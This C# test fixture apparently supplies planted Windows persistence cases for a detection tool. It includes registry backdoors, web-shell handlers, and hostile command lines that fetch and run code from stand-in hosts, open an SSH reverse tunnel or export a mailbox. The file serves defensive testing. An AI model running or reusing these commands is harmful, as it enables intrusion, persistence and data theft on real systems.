namespace Afterpatch.Cli.Tests.Persistence;

/// <summary>What intruders plant, each with a word that only it has.</summary>
internal static class PlantedCases
{
    private const string Nt = @"Microsoft\Windows NT\CurrentVersion";
    private const string Windows = @"Microsoft\Windows\CurrentVersion";
    private const string Net = @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319";

    public static IReadOnlyList<(string Token, Action<PlantedEvidence> Plant)> All { get; } =
    [
        ("wnetsvc1", one => one.Service("wnetsvc1", @"C:\Windows\system32\cmd.exe /c start /b C:\Windows\Temp\wn.exe")),
        ("fontdrv7.dll", one => one.Service("FontDrvHlp", @"%SystemRoot%\system32\svchost.exe -k netsvcs", @"C:\Windows\Fonts\fontdrv7.dll")),
        ("drv64q.sys", one => one.Service("drv64q", @"\??\C:\Windows\Temp\drv64q.sys", type: 1)),
        ("rmtsvc3", one => one.Service("rmtsvc3", @"\\10.20.30.40\c$\tools\a.exe")),
        ("MSExchangeHM2", one => one.Service("MSExchangeHM2", @"C:\Users\Public\Documents\MSExchangeHMHost.exe")),
        ("pwdflt9", one => one.Systems(@"Control\Lsa", "Notification Packages", "scecli", "pwdflt9")),
        ("mimilib", one => one.Systems(@"Control\Lsa", "Security Packages", "kerberos", "msv1_0", "mimilib")),
        ("pm55.dll", one => one.System(@"Control\Print\Monitors\Shared Port", "Driver", @"C:\ProgramData\pm55.dll")),
        ("appcert6.dll", one => one.System(@"Control\Session Manager\AppCertDlls", "a", @"C:\Windows\Temp\appcert6.dll")),
        ("prof77.dll", one =>
        {
            one.Service("W3SVC", @"%windir%\system32\svchost.exe -k iissvcs", @"%windir%\system32\inetsrv\iisw3adm.dll");
            one.Systems(@"Services\W3SVC", "Environment", "COR_ENABLE_PROFILING=1", @"COR_PROFILER_PATH=C:\ProgramData\prof77.dll");
        }),
        ("bootx8", one => one.Systems(@"Control\Session Manager", "BootExecute", "autocheck autochk *", "bootx8")),
        ("runmshta1", one => one.Software($@"{Windows}\Run", "runmshta1", @"mshta vbscript:CreateObject(""WScript.Shell"").Run(""powershell -ep bypass C:\Users\Public\a.ps1"",0)(window.close)")),
        ("sethc.exe", one => one.Software($@"{Nt}\Image File Execution Options\sethc.exe", "Debugger", @"C:\Windows\System32\cmd.exe")),
        ("updspool.exe", one => one.Software($@"{Nt}\Winlogon", "Userinit", @"C:\Windows\system32\userinit.exe,C:\Windows\System32\spool\updspool.exe")),
        ("monproc4.exe", one => one.Software($@"{Nt}\SilentProcessExit\notepad.exe", "MonitorProcess", @"C:\Users\Public\monproc4.exe")),
        ("ainit5.dll", one => one.Software($@"{Nt}\Windows", "AppInit_DLLs", @"C:\ProgramData\ainit5.dll")),
        ("nethlp2.dll", one => one.Software(@"Microsoft\NetSh", "nethlp2", @"C:\ProgramData\nethlp2.dll")),
        ("autorun3.bat", one => one.Software(@"Microsoft\Command Processor", "AutoRun", @"C:\Windows\Temp\autorun3.bat")),
        ("setup99.dll", one => one.Software(@"Microsoft\Active Setup\Installed Components\{11111111-2222-3333-4444-555555555555}", "StubPath", @"rundll32 C:\Users\Public\setup99.dll,X")),
        ("comsrv8.dll", one => one.Software(@"Classes\CLSID\{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}\InprocServer32", "", @"C:\ProgramData\comsrv8.dll")),
        ("credprov1.dll", one =>
        {
            one.Software($@"{Windows}\Authentication\Credential Providers\{{9F1A2B3C-0000-4000-8000-0123456789AB}}", "", "Helper");
            one.Software(@"Classes\CLSID\{9F1A2B3C-0000-4000-8000-0123456789AB}\InprocServer32", "", @"C:\Windows\Temp\credprov1.dll");
        }),
        ("officetest.dll", one => one.User(@"Software\Microsoft\Office test\Special\Perf", "", @"C:\Users\Public\officetest.dll")),
        ("hkcurun2", one => one.User(@"Software\Microsoft\Windows\CurrentVersion\Run", "hkcurun2", @"C:\Users\admin\AppData\Roaming\svchost.exe")),
        ("logonscr.bat", one => one.User("Environment", "UserInitMprLogonScript", @"C:\Users\Public\logonscr.bat")),
        ("inboxpage", one => one.User(@"Software\Microsoft\Office\16.0\Outlook\WebView\Inbox", "URL", "http://203.0.113.80/inboxpage.html")),
        ("taskjs", one => one.Task(@"\taskjs", "rundll32.exe", @"javascript:""\..\mshtml,RunHTMLApplication "";eval(1)")),
        ("headless9", one => one.Task(@"\Contoso\headless9", @"C:\Windows\System32\conhost.exe", @"--headless powershell -f C:\Users\Public\headless9.ps1")),
        ("forf1", one => one.Task(@"\forf1", "forfiles.exe", @"/p c:\windows\system32 /m notepad.exe /c ""C:\PerfLogs\n.exe""")),
        ("build44.xml", one => one.Task(@"\Microsoft\Windows\NetTrace\Build", $@"{Net}\MSBuild.exe", @"C:\ProgramData\build44.xml")),
        ("inst6.dll", one => one.Task(@"\inst6", $@"{Net}\InstallUtil.exe", @"/logfile= /LogToConsole=false /U C:\Windows\Tasks\inst6.dll")),
        ("compr3.exe", one => one.Task(@"\IISCompress", @"C:\inetpub\temp\IIS Temporary Compressed Files\compr3.exe")),
        ("execute7", one => one.ServiceInstalled("execute7", @"%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output 2^>^&1 > %TEMP%\execute7.bat & %COMSPEC% /Q /c %TEMP%\execute7.bat")),
        ("encTask", one => one.TaskRegistered(@"\encTask", "powershell.exe", "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3AC8AYQAnACkA")),
        ("cachehttp2", one => one.Module("HttpCache2", @"%windir%\System32\inetsrv\cachehttp2.dll")),
        ("colordir", one => one.Directory("/colordir", @"C:\Windows\Temp\colordir")),
        ("poolcfg", one => one.Pool("poolcfg", @"CLRConfigFile=""C:\ProgramData\poolcfg.config""")),
        ("agent12", one => one.Agent("Journaling Helper agent12", @"C:\ProgramData\agent12.dll")),
        ("AuthModule3", one => one.File(@"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\web.config", @"<?xml version=""1.0""?><configuration><system.webServer><modules><add name=""Auth"" type=""Contoso.Auth.AuthModule3, AuthModule3"" /></modules></system.webServer></configuration>")),
        ("txtpage", one => one.File(@"C:\inetpub\wwwroot\aspnet_client\web.config", @"<?xml version=""1.0""?><configuration><system.webServer><handlers><add name=""txtpage"" path=""*.txt"" verb=""*"" type=""System.Web.UI.PageHandlerFactory"" /></handlers></system.webServer></configuration>")),
        ("startup2.bat", one => one.File(@"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\startup2.bat", "@echo off\r\nstart /b C:\\Users\\Public\\w.exe\r\n")),
        ("startup3.exe", one => one.File(@"C:\Users\admin\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\startup3.exe", "MZ\0\0 startup3")),
        ("gpstart.bat", one => one.File(@"C:\Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini", "[Startup]\r\n0CmdLine=C:\\Windows\\Temp\\gpstart.bat\r\n0Parameters=\r\n")),
        ("profile.ps1", one => one.File(@"C:\Windows\System32\WindowsPowerShell\v1.0\profile.ps1", "& C:\\Users\\Public\\p.exe\r\n")),
        // Second round.
        ("failcmd2", one =>
        {
            one.Service("ContosoSync", @"C:\Program Files\Contoso\sync.exe");
            one.System(@"Services\ContosoSync", "FailureCommand", @"C:\Users\Public\failcmd2.exe");
        }),
        ("rootdll5.dll", one =>
        {
            one.Service("NcaHlp", @"%SystemRoot%\System32\svchost.exe -k netsvcs");
            one.System(@"Services\NcaHlp", "ServiceDll", @"C:\ProgramData\rootdll5.dll");
        }),
        ("timeprov7.dll", one => one.System(@"Services\W32Time\TimeProviders\NtpAux", "DllName", @"C:\ProgramData\timeprov7.dll")),
        ("gpext4.dll", one => one.Software($@"{Nt}\Winlogon\GPExtensions\{{D02B1F72-3407-48AE-BA88-E8213C6761F0}}", "DllName", @"C:\Windows\Temp\gpext4.dll")),
        ("prtproc6.dll", one => one.System(@"Control\Print\Environments\Windows x64\Print Processors\hpx", "Driver", @"..\..\..\..\..\..\ProgramData\prtproc6.dll")),
        ("nppspy3.dll", one =>
        {
            one.System(@"Control\NetworkProvider\Order", "ProviderOrder", "RDPNP,LanmanWorkstation,webclient,nppspy3");
            one.System(@"Services\nppspy3\NetworkProvider", "ProviderPath", @"C:\ProgramData\nppspy3.dll");
        }),
        ("evilssp8", one => one.System(@"Control\SecurityProviders", "SecurityProviders", "credssp.dll, evilssp8.dll")),
        ("sysprof9.dll", one =>
        {
            one.System(@"Control\Session Manager\Environment", "COR_ENABLE_PROFILING", "1");
            one.System(@"Control\Session Manager\Environment", "COR_PROFILER_PATH", @"C:\ProgramData\sysprof9.dll");
        }),
        ("hooks2.dll", one => one.System(@"Control\Session Manager\Environment", "DOTNET_STARTUP_HOOKS", @"C:\Users\Public\hooks2.dll")),
        ("initprog1.exe", one => one.System(@"Control\Terminal Server\WinStations\RDP-Tcp", "InitialProgram", @"C:\Users\Public\initprog1.exe")),
        ("evilrdp6", one => one.System(@"Control\Terminal Server\Wds\rdpwd", "StartupPrograms", "rdpclip,evilrdp6")),
        ("rdpwrap.dll", one => one.Service("TermService", @"%SystemRoot%\System32\svchost.exe -k termsvcs", @"%ProgramFiles%\RDP Wrapper\rdpwrap.dll")),
        ("tsrun5", one => one.Software($@"{Nt}\Terminal Server\Install\Software\Microsoft\Windows\CurrentVersion\Run", "tsrun5", @"C:\Users\Public\tsrun5.exe")),
        ("polshell3.exe", one => one.Software($@"{Windows}\Policies\System", "Shell", @"explorer.exe,C:\Windows\Temp\polshell3.exe")),
        ("exeassoc4.exe", one => one.Software(@"Classes\exefile\shell\open\command", "", @"C:\ProgramData\exeassoc4.exe ""%1"" %*")),
        ("loadval2.exe", one => one.User(@"Software\Microsoft\Windows NT\CurrentVersion\Windows", "Load", @"C:\Users\Public\loadval2.exe")),
        ("hosts7.bak", one => one.Task(@"\hosts7", "cmd.exe", @"/c powershell -c ""iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((Get-Content C:\Windows\System32\drivers\etc\hosts7.bak))))""")),
        ("wmicx.xsl", one => one.Task(@"\wmicx", "wmic.exe", @"os get /format:""http://203.0.113.9/wmicx.xsl""")),
        ("curlpipe", one => one.Task(@"\curlpipe", @"C:\Windows\System32\cmd.exe", @"/c ""curl -s http://203.0.113.9/curlpipe|cmd""")),
        ("sshback", one => one.Task(@"\sshback", @"C:\Windows\System32\OpenSSH\ssh.exe", @"-N -R 0.0.0.0:33890:localhost:3389 -o StrictHostKeyChecking=no tun@203.0.113.9")),
        ("expreq8", one => one.Task(@"\expreq8", "powershell.exe", @"-c ""Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox ceo -FilePath \\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\expreq8.aspx""")),
        ("netshell1", one => one.File(@"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Config\web.config", @"<?xml version=""1.0""?><configuration><system.web><httpModules><add name=""netshell1"" type=""Contoso.Web.netshell1, netshell1"" /></httpModules></system.web></configuration>")),
        ("wmibind5", one => one.Event("Microsoft-Windows-WMI-Activity/Operational", "Microsoft-Windows-WMI-Activity", 5861, ("Namespace", @"//./root/subscription"), ("ESS", "wmibind5"), ("CONSUMER", "CommandLineEventConsumer=\"wmibind5\""), ("PossibleCause", "Binding EventFilter: instance of __EventFilter { Name = \"wmibind5\"; }; Perm. Consumer: instance of CommandLineEventConsumer { CommandLineTemplate = \"powershell -ep bypass -f C:\\\\Users\\\\Public\\\\wmibind5.ps1\"; Name = \"wmibind5\"; };"))),
        ("DefaultAccount2", one =>
        {
            one.Event("Security", "Microsoft-Windows-Security-Auditing", 4720, ("TargetUserName", "DefaultAccount2$"), ("TargetDomainName", "EX01"), ("TargetSid", "S-1-5-21-1-2-3-1009"), ("SubjectUserName", "EX01$"), ("SubjectUserSid", "S-1-5-18"));
            one.Event("Security", "Microsoft-Windows-Security-Auditing", 4732, ("MemberName", "-"), ("MemberSid", "S-1-5-21-1-2-3-1009"), ("TargetUserName", "Administrators"), ("TargetDomainName", "Builtin"), ("TargetSid", "S-1-5-32-544"), ("SubjectUserName", "EX01$"), ("SubjectUserSid", "S-1-5-18"));
        }),
        ("fwrule3.exe", one => one.System(@"Services\SharedAccess\Parameters\FirewallPolicy\FirewallRules", "{1}", @"v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol=6|App=C:\ProgramData\fwrule3.exe|Name=Core Networking|")),
        // Third round.
        ("svc4697", one => one.Event("Security", "Microsoft-Windows-Security-Auditing", 4697, ("ServiceName", "svc4697"), ("ServiceFileName", @"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -encodedcommand SQBFAFgA"), ("ServiceType", "0x10"))),
        ("upd4702", one => one.Event("Security", "Microsoft-Windows-Security-Auditing", 4702, ("TaskName", @"\upd4702"), ("TaskContentNew", "<Task><Actions><Exec><Command>mshta.exe</Command><Arguments>http://203.0.113.4/upd4702.hta</Arguments></Exec></Actions></Task>"))),
        ("spaced9", one => one.Service("spaced9", @"""C:\WINDOWS\TEMP\x y\spaced9.exe"" -k")),
        ("allusers9.exe", one => one.Service("AllUsersSvc", @"%ALLUSERSPROFILE%\allusers9.exe")),
        ("public9.exe", one => one.Service("PublicSvc", @"%PUBLIC%\public9.exe")),
        ("slashes9.exe", one => one.Service("SlashSvc", "C:/Users/Public/slashes9.exe")),
        ("explor9.vbs", one => one.Software($@"{Windows}\Run", "explor9", @"C:\Windows\explorer.exe C:\Users\Public\explor9.vbs")),
        ("clr9.dll", one => one.Software($@"{Windows}\Run", "clr9", @"regsvr32 /s C:\Windows\System32\spool\drivers\color\clr9.dll")),
        ("mkeys9.exe", one => one.Service("mkeys9", @"C:\ProgramData\Microsoft\Crypto\RSA\MachineKeys\mkeys9.exe")),
        ("asm9.dll", one => one.Task(@"\asm9", "powershell.exe", @"-c ""[Reflection.Assembly]::LoadFile('C:\Windows\Tasks\asm9.dll').GetType('A').GetMethod('B').Invoke($null,$null)""")),
        ("allu9.exe", one => one.Task(@"\allu9", "cmd.exe", @"/c start """" /min ""C:\Users\All Users\allu9.exe""")),
        ("bin9.exe", one => one.Task(@"\bin9", @"C:\$Recycle.Bin\S-1-5-18\bin9.exe")),
        ("icoasp9", one => one.File(@"C:\inetpub\wwwroot\aspnet_client\system_web\web.config", @"<?xml version=""1.0""?><configuration><system.webServer><handlers><add name=""icoasp9"" path=""*.ico"" verb=""*"" modules=""IsapiModule"" scriptProcessor=""C:\Windows\System32\inetsrv\asp.dll"" /></handlers></system.webServer></configuration>")),
        ("pngash9", one => one.File(@"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\ecp\web.config", @"<?xml version=""1.0""?><configuration><system.web><httpHandlers><add path=""pngash9.png"" verb=""*"" type=""System.Web.UI.SimpleHandlerFactory"" /></httpHandlers></system.web></configuration>")),
        ("shr9", one => one.Directory("/shr9", @"\\203.0.113.8\shr9")),
        ("tsc9.exe", one => one.Task(@"\tsc9", @"\\tsclient\c\tsc9.exe")),
        ("MsMpEng.exe", one => one.Software($@"{Nt}\Image File Execution Options\MsMpEng.exe", "Debugger", "systray.exe")),
        ("split9", one => one.Service("split9", @"C:\Windows\System32\cmd.exe /c ""set a=power&&set b=shell&&call %a%%b% -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.4/split9')""")),
        ("hiddenRun9", one => one.User(@"Software\Microsoft\Windows\CurrentVersion\Run", "hiddenRun9", @"conhost --headless cmd /c %APPDATA%\hiddenRun9.bat")),
    ];
}
